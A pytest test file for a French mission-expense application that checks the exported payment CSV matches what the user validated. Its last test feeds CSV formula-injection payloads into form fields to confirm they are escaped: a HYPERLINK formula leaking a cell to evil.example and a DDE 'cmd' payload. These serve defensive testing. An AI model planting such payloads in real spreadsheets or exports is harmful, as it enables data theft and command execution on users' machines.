"""The payment file pays what the intervenant saw when validating, and is safe in a spreadsheet
(issue 10, item 3; issue 11, item 3): through the real validation, review and export."""

from __future__ import annotations

import csv
import io
import re
from decimal import Decimal

import pytest
from sqlalchemy import update

from imagin.models import User
from tests.builders import (
    DINNER_621,
    LUNCH_621,
    PAY_621,
    certify_service_fait,
    claim_of,
    post_expenses,
    post_leg,
    pypdf_pdf,
    send,
    token,
)
from tests.conftest import CLAIRE, GESTIONNAIRE, AuthActions, csrf_from, database, plain

# 621 by car: 159 km there, 159 km back, away from 07:00 to 21:30 (lunch and dinner).
THERE = {
    "departure_date": "02/12/2022",
    "departure_time": "07:00",
    "departure_city": "ST LO",
    "arrival_date": "02/12/2022",
    "arrival_time": "09:00",
    "arrival_city": "ALENCON CEDEX",
    "mode": "voiture",
    "km": "159",
}
BACK = {
    **THERE,
    "departure_time": "18:30",
    "departure_city": "ALENCON CEDEX",
    "arrival_time": "21:30",
    "arrival_city": "ST LO",
}
TOLL = {"expenses-0-kind": "toll", "expenses-0-detail": "A84", "expenses-0-amount": "12,40"}
MEALS = {LUNCH_621: "autre", DINNER_621: "administratif"}


def enter_621(app, client, there=THERE, back=BACK, toll=TOLL) -> None:
    """Claire's travel part of 621: the two legs, the lunch, the dinner, the toll, its ticket."""
    assert post_leg(app, client, **there).status_code == 303
    assert post_leg(app, client, **back).status_code == 303
    assert post_expenses(app, client, **MEALS, **toll).status_code == 303
    html = client.get("/missions/621/deplacement").get_data(as_text=True)
    toll_ref = re.search(r'value="(expense:\d+)"> Ticket de péage', html).group(1)
    assert send(client, ("peage.pdf", pypdf_pdf()), receipts=[toll_ref]).status_code == 200


def validate_621(app, client) -> str:
    """Both parts validated from the Récapitulatif; returns the Récapitulatif as she saw it."""
    data = {"csrf_token": token(client), "version": str(claim_of(app, 621)["version"])}
    assert client.post("/missions/621/remuneration", data={**data, **PAY_621}).status_code == 303
    recap = plain(client.get("/missions/621/recapitulatif").get_data(as_text=True))
    data["version"] = str(claim_of(app, 621)["version"])
    response = client.post("/missions/621/valider", data={**data, "certify": "y"})
    assert response.status_code == 303
    assert (claim_of(app, 621)["pay"], claim_of(app, 621)["travel"]) == ("valide", "valide")
    return recap


def export_621(app) -> list[dict[str, str]]:
    """The DEC validates both parts and exports them; the CSV read back, one dict a row."""
    # The centre certified the service fait, which the bureau requires before the DEC.
    certify_service_fait(app, 621)
    manager = app.test_client()
    AuthActions(manager).login(GESTIONNAIRE)
    for slug in ("remuneration", "deplacement"):
        page = manager.get("/gestion/missions/621").get_data(as_text=True)
        version = re.search(r'name="version" type="hidden" value="(\d+)"', page).group(1)
        response = manager.post(
            f"/gestion/missions/621/{slug}/valider",
            data={"csrf_token": csrf_from(page), "version": version},
        )
        assert response.status_code == 303, plain(response.get_data(as_text=True))
    page = manager.get("/gestion/paiement").get_data(as_text=True)
    claim_id = claim_of(app, 621)["id"]
    selected = [f"{claim_id}:pay", f"{claim_id}:travel"]
    exported = manager.post(
        "/gestion/paiement", data={"csrf_token": csrf_from(page), "selected": selected}
    )
    assert exported.status_code == 303
    batches = manager.get("/gestion/paiement/lots").get_data(as_text=True)
    link = re.search(r'href="(/gestion/paiement/lots/\d+\.csv)"', batches).group(1)
    raw = manager.get(link).get_data()
    assert raw.startswith(b"\xef\xbb\xbf")
    return list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig")), delimiter=";"))


@pytest.fixture
def claire(client):
    AuthActions(client).login(CLAIRE)
    return client


def test_621_is_paid_what_the_recapitulatif_showed_category_by_category(app, claire):
    enter_621(app, claire)
    recap = validate_621(app, claire)
    # What Claire saw before validating.
    assert 'Indemnités kilométriques <span class="amounts__subtotal">101,76 €</span>' in recap
    assert "318 km × 0,32 € = 101,76 € (5 CV)" in recap
    assert 'Repas <span class="amounts__subtotal">26,25 €</span>' in recap
    assert 'Autres frais <span class="amounts__subtotal">12,40 €</span>' in recap
    assert "Total des frais de déplacement : <strong>140,41 €</strong>" in recap
    stored = claim_of(app, 621)
    assert stored["travel_amount"] == 14041
    assert stored["frozen"] == {"mileage": 10176, "meals": 2625, "other": 1240}

    # Frozen: a later change of her profile does not change what is paid.
    with database(app) as db:
        db.execute(update(User).where(User.email == CLAIRE).values(vehicle_cv=8))
        db.commit()

    rows = export_621(app)
    travel = next(row for row in rows if row["Partie"] == "Déplacement")
    assert travel["N° de mission"] == "621" and travel["Nom"] == "Martin"
    assert travel["Rémunération"] == ""
    assert travel["Transport"] == "0,00"
    assert travel["Indemnités kilométriques"] == "101,76"
    assert travel["Repas"] == "26,25"
    assert travel["Nuitées"] == "0,00"
    assert travel["Autres frais"] == "12,40"
    assert travel["Total"] == "140,41"
    columns = ("Transport", "Indemnités kilométriques", "Repas", "Nuitées", "Autres frais")
    assert sum(Decimal(travel[c].replace(",", ".")) for c in columns) == Decimal("140.41")
    assert travel["Trajets"] == "ST LO → ALENCON CEDEX ; ALENCON CEDEX → ST LO"
    assert travel["Précisions"] == "A84"
    pay = next(row for row in rows if row["Partie"] == "Rémunération")
    assert (pay["Rémunération"], pay["Total"], pay["Repas"]) == ("33,60", "33,60", "")


@pytest.mark.parametrize(
    ("typed", "cell"),
    [
        ('=HYPERLINK("http://evil.example/?x="&A1;"Cliquez")', "Trajets"),
        ("@SUM(1+1)*cmd|' /C calc'!A0", "Précisions"),
        ("-2+3", "Précisions"),
        ("+33 6 12 34 56 78", "Précisions"),
    ],
)
def test_what_the_intervenant_typed_cannot_run_in_the_spreadsheet(app, claire, typed, cell):
    if cell == "Trajets":
        there = {**THERE, "departure_city": typed}
        enter_621(app, claire, there=there, back={**BACK, "arrival_city": typed})
    else:
        enter_621(app, claire, toll={**TOLL, "expenses-0-detail": typed})
    validate_621(app, claire)
    travel = next(row for row in export_621(app) if row["Partie"] == "Déplacement")
    # Read back as text: the apostrophe keeps it text, whatever it starts with.
    assert travel[cell].startswith("'" + typed[0])
    assert typed in travel[cell]
    # Amounts stay numbers.
    assert travel["Indemnités kilométriques"] == "101,76" and travel["Total"] == "140,41"
    assert not any(
        value.startswith("'")
        for key, value in travel.items()
        if key not in ("Trajets", "Précisions")
    )
